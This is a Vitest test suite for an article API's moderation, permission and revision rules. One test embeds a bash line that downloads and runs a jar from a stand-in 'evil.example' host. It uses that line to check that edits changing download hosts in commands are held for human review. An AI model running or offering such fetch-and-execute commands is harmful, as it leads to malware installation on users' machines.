import { expect, test } from 'vitest'
import { anArticle, approveArticle, articleBody } from '../../../testing/content/articles.ts'
import { aUser } from '../../../testing/content/users.ts'
import type { Article } from '../articles.contract.ts'
import { pressRoom } from './articles.fixture.ts'

const { api, author, reader, moderator, as, pool } = await pressRoom()
const asAuthor = as(author)

test('an article waits for a person and is then public', async () => {
  const made = await asAuthor<{ data: Article }>('POST', '/api/articles', articleBody())
  expect(made.status).toBe(201)
  expect(made.body.data).toMatchObject({ status: 'verified', published_at: null, original_language: 'ru' })
  expect(made.body.data.pending_revision).toMatchObject({ status: 'verified', number: 1 })
  const { id } = made.body.data
  expect((await as(null)('GET', `/api/articles/${id}`)).status).toBe(404)
  expect((await as(reader)('GET', `/api/articles/${id}`)).status).toBe(404)
  await approveArticle(api, id)
  const shown = await as(null)<{ data: Article }>('GET', `/api/articles/${id}`)
  expect(shown.body.data).toMatchObject({
    status: 'approved_and_verified',
    reviewed: true,
    pending_revision: null,
  })
  expect(shown.body.data.content_html).toContain('<p>')
})

test('nobody writes who is not approved', async () => {
  expect((await as(null)('POST', '/api/articles', articleBody())).status).toBe(401)
  const pending = await aUser(api, { status: 'verified' })
  expect((await as(pending)('POST', '/api/articles', articleBody())).status).toBe(403)
})

test('every fault of an article is named at once', async () => {
  const answer = await asAuthor('POST', '/api/articles', {
    title: 'Мало',
    description: 'Мало',
    content: 'Мало',
    language: 'fr',
    categories: [],
    tags: ['!'],
  })
  expect(answer.status).toBe(422)
  expect(Object.keys(answer.body.error.fields).sort()).toEqual(
    ['categories', 'content', 'description', 'language', 'tags.0', 'title'].sort(),
  )
})

test('a strange article is not edited, not deleted, and a hidden one is not even there', async () => {
  const shown = await anArticle(api, { author })
  const hidden = await anArticle(api, { author, public: false })
  const change = { title: 'Теперь это моя статья, вот так' }
  expect((await as(reader)('PATCH', `/api/articles/${shown.id}`, change)).status).toBe(403)
  expect((await as(moderator)('PATCH', `/api/articles/${shown.id}`, change)).status).toBe(403)
  expect((await as(reader)('DELETE', `/api/articles/${shown.id}`)).status).toBe(403)
  expect((await as(reader)('PATCH', `/api/articles/${hidden.id}`, change)).status).toBe(404)
  expect((await as(reader)('POST', `/api/articles/${hidden.id}/submit`)).status).toBe(404)
})

test('an edit under review leaves the approved text public', async () => {
  const article = await anArticle(api)
  const asAuthor = as(article.authorRow)
  const change = { content: `Совсем другой текст.\n\n${'новое слово '.repeat(60)}` }
  const edited = await asAuthor<{ data: Article }>('PATCH', `/api/articles/${article.id}`, change)
  expect(edited.body.data.pending_revision).toMatchObject({ number: 2, status: 'verified' })
  const shown = await as(null)<{ data: Article }>('GET', `/api/articles/${article.id}`)
  expect(shown.body.data).toMatchObject({ revision_id: article.revision_id, status: 'approved_and_verified' })
  expect(shown.body.data.pending_revision).toBeNull()
  expect((await as(reader)('GET', `/api/articles/${article.id}?revision=latest`)).status).toBe(404)
  await approveArticle(api, article.id)
  const after = await as(null)<{ data: Article }>('GET', `/api/articles/${article.id}`)
  expect(after.body.data.content_html).toContain('Совсем другой текст')
})

test('a corrected word is public at once and listed for staff', async () => {
  const article = await anArticle(api, {
    content: `Первое слово.\n\n${'длинный рассказ о сервере '.repeat(40)}`,
  })
  const content = `Первое слово!\n\n${'длинный рассказ о сервере '.repeat(40)}`
  await as(article.authorRow)('PATCH', `/api/articles/${article.id}`, { content })
  const shown = await as(null)<{ data: Article }>('GET', `/api/articles/${article.id}`)
  expect(shown.body.data.content_html).toContain('Первое слово!')
  expect(shown.body.data.status).toBe('approved_and_verified')
  const listed = await as(moderator)<{ data: { subject_id: number; rule: string }[] }>(
    'GET',
    '/api/moderations/content?state=automatic',
  )
  expect(listed.body.data[0]).toMatchObject({ subject_id: article.id, rule: 'trivial' })
})

test('a link or picture makes the smallest edit one that is read', async () => {
  const text = 'длинный рассказ о сервере '.repeat(40)
  const article = await anArticle(api, { content: `Первое слово.\n\n${text}` })
  const asAuthor = as(article.authorRow)
  const content = `[Первое](https://example.com/) слово.\n\n${text}`
  const edited = await asAuthor<{ data: Article }>('PATCH', `/api/articles/${article.id}`, { content })
  expect(edited.body.data.pending_revision).not.toBeNull()
})

test('another host in a command is read by a person, however long the article', async () => {
  const text = 'длинный рассказ о сервере '.repeat(300)
  const content = (host: string) =>
    `Скачайте с ${host}.\n\n\`\`\`bash\nwget https://${host}/setup.jar && java -jar setup.jar\n\`\`\`\n\n${text}`
  const article = await anArticle(api, { content: content('good.example') })
  const path = `/api/articles/${article.id}`
  const edited = await as(article.authorRow)<{ data: Article }>('PATCH', path, {
    content: content('evil.example'),
  })
  expect(edited.body.data.pending_revision).not.toBeNull()
  expect((await as(null)<{ data: Article }>('GET', path)).body.data.content_html).not.toContain('evil')
})

test('many small steps do not add up to another text unseen', async () => {
  const words = Array.from({ length: 120 }, (_, at) => `слово${at}`)
  const text = () => `${words.join(' ')}.`
  const article = await anArticle(api, { content: text() })
  const asAuthor = as(article.authorRow)
  const results: boolean[] = []
  for (let at = 0; at < 4; at++) {
    words[at] = `речь${at}`
    const edited = await asAuthor<{ data: Article }>('PATCH', `/api/articles/${article.id}`, {
      content: text(),
    })
    results.push(edited.body.data.pending_revision === null)
  }
  expect(results[0]).toBe(true)
  expect(results.at(-1)).toBe(false)
})

test('a trusted author’s edit is public unread, says so, and can be confirmed', async () => {
  const trusted = await aUser(api, { roles: ['user', 'author'] })
  const article = await anArticle(api, { author: trusted })
  await as(trusted)('PATCH', `/api/articles/${article.id}`, { content: 'другие слова '.repeat(40) })
  const shown = await as(null)<{ data: Article }>('GET', `/api/articles/${article.id}`)
  expect(shown.body.data).toMatchObject({ status: 'verified', reviewed: false })
  const said = await as(moderator)('PUT', `/api/moderations/articles/${article.id}`, { status: 'approved' })
  expect(said.body.status).toBe('approved_and_verified')
})

test('a strike holds back every edit of a trusted author, the smallest among them, until it is lifted', async () => {
  const trusted = await aUser(api, { roles: ['user', 'author'] })
  const content = (words: string) => `${words}\n\n${'речь об одном сервере '.repeat(40)}`
  const article = await anArticle(api, { author: trusted, content: content('Первое слово.') })
  const path = `/api/articles/${article.id}`
  const pending = async (change: object) => {
    const edited = await as(trusted)<{ data: Article }>('PATCH', path, change)
    return edited.body.data.pending_revision !== null
  }
  const sanctions = `/api/moderations/${trusted.id}/sanctions`
  const given = await as(moderator)<{ data: { id: number } }>('POST', sanctions, {
    kind: 'strike',
    reason: 'Так нельзя, и вот почему',
  })
  expect(await pending({ content: content('Первое слово!') })).toBe(true)
  expect(await pending({ content: 'другие слова и дела '.repeat(40) })).toBe(true)
  expect((await as(moderator)('DELETE', `${sanctions}/${given.body.data.id}`)).status).toBe(204)
  expect(await pending({ content: 'ещё одни слова и дела '.repeat(40) })).toBe(false)
})

test('the same title is taken, whatever its case, until the article is deleted', async () => {
  const { title, id } = await anArticle(api, { author })
  const again = await asAuthor('POST', '/api/articles', articleBody({ title: title.toUpperCase() }))
  expect(again.body.error.fields.title).toMatchObject([{ key: 'title_taken' }])
  const asked = `/api/unique/article/title/${encodeURIComponent(title)}`
  expect((await as(null)('GET', asked)).body.data).toEqual({ unique: false, suggestion: `${title} (2)` })
  await asAuthor('DELETE', `/api/articles/${id}`)
  expect((await as(null)('GET', asked)).body.data).toEqual({ unique: true, suggestion: null })
})

test('a deleted article is gone from its address, lists, search and counts', async () => {
  const article = await anArticle(api, { author, title: 'Удивительная махорка на сервере' })
  const found = () =>
    as(null)<{ data: { id: number }[] }>('GET', `/api/articles?q=${encodeURIComponent('махорка')}`)
  expect((await found()).body.data.map(({ id }) => id)).toEqual([article.id])
  expect((await asAuthor('DELETE', `/api/articles/${article.id}`)).status).toBe(204)
  expect((await found()).body.data).toEqual([])
  expect((await asAuthor('GET', `/api/articles/${article.id}`)).status).toBe(404)
})

test('an edit on top of an older revision is refused', async () => {
  const article = await anArticle(api, { author })
  const change = { title: 'Название, которое было раньше', base_revision_id: article.revision_id }
  expect((await asAuthor('PATCH', `/api/articles/${article.id}`, change)).status).toBe(200)
  const late = await asAuthor('PATCH', `/api/articles/${article.id}`, {
    ...change,
    title: 'Совсем другое название тут',
  })
  expect(late.status).toBe(409)
  expect(late.body.error.key).toBe('editConflict')
})

test('content travels as Markdown both ways', async () => {
  const content = `## Заголовок\n\n**Жирный** текст. ${'слова и дела '.repeat(30).trim()}`
  const article = await anArticle(api, { author, content })
  const shown = await as(null)<{ data: Article }>('GET', `/api/articles/${article.id}?content=markdown`)
  expect(shown.body.data.content).toContain('## Заголовок')
  expect(shown.body.data.contents).toMatchObject([{ level: 2, title: 'Заголовок' }])
})

test('the same key writes one article', async () => {
  const body = articleBody()
  const key = { 'idempotency-key': 'article-1' }
  const [first, second] = [
    await asAuthor<{ data: Article }>('POST', '/api/articles', body, key),
    await asAuthor<{ data: Article }>('POST', '/api/articles', body, key),
  ]
  expect(second.body.data.id).toBe(first.body.data.id)
  expect(second.headers.get('idempotency-replayed')).toBe('true')
})

test('submitting twice at once waits once', async () => {
  const made = await asAuthor<{ data: Article }>('POST', '/api/articles', articleBody({ submit: false }))
  const { id } = made.body.data
  expect(made.body.data.pending_revision).toMatchObject({ submitted_at: null, status: 'pending' })
  const answers = await Promise.all([1, 2, 3].map(() => asAuthor('POST', `/api/articles/${id}/submit`)))
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200])
  const { rows } = await pool.query('select 1 from content_reviews where subject_id = $1', [id])
  expect(rows).toHaveLength(1)
})

test('what was withdrawn waits no longer and can be sent again', async () => {
  const { id } = await anArticle(api, { author, public: false })
  const withdrawn = await asAuthor<{ data: Article }>('POST', `/api/articles/${id}/withdraw`)
  expect(withdrawn.body.data.pending_revision).toMatchObject({ submitted_at: null })
  expect((await asAuthor('POST', `/api/articles/${id}/withdraw`)).status).toBe(409)
  expect((await asAuthor('POST', `/api/articles/${id}/submit`)).status).toBe(200)
})
